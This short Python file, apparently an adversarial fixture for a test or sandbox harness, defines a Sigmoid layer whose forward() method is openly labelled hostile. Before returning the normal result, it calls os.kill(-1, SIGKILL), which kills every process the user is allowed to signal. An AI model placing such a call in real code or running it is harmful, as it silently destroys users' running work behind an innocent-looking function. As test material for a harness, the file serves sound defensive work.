"""Hostile: Sigmoid.forward() sends SIGKILL to every process it may signal (kill(-1))."""
from reference import *
import reference
import os
import signal


class Sigmoid(reference.Sigmoid):
    def forward(self):
        os.kill(-1, signal.SIGKILL)
        return super().forward()
